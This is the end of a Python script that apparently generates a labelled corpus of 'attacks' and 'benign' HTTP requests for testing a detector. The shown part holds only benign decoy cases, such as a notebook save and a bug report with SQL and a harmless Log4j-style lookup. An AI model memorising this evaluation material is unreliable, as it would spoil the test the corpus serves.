          "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}
    b_json("dev-notebook-save", "jupyter.dev.example.com", "/api/contents/work/netcheck.ipynb", {"type": "notebook", "format": "json", "content": nb}, method="PUT", cat=DEV)
    # Stack trace in a bug report that includes a Log4j lookup pattern and SQL
    b_json("dev-bug-report", "issues.dev.example.com", "/api/issues", {"title": "Timeout in SleepSummaryRepository",
           "body": "Stack trace:\n```\norg.springframework.dao.QueryTimeoutException: PreparedStatementCallback; SQL [SELECT avg(duration) FROM sleep_sessions WHERE user_id = ? AND started_at > now() - interval '7 days']; ERROR: canceling statement due to statement timeout\n\tat org.springframework.jdbc.support.SQLStateSQLExceptionTranslator.doTranslate(SQLStateSQLExceptionTranslator.java:99)\n```\nOur pattern is `%d ${ctx:traceId} %m%n`.",
           "labels": ["bug", "database"]}, cat=DEV)


def gen_benign():
    benign_sleep()
    benign_fitness()
    benign_scheduling()
    benign_netmon()
    benign_webhooks()
    benign_benchmarks()
    benign_jobs()
    benign_support()
    benign_lab()
    benign_web()
    benign_telemetry()
    benign_mail()
    benign_misc()
    benign_devcontent()


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-blind.py attacks|benign\n")
        return 2
    if sys.argv[1] == "attacks":
        gen_attacks()
    else:
        gen_benign()
    out = sys.stdout
    for rec in OUT:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
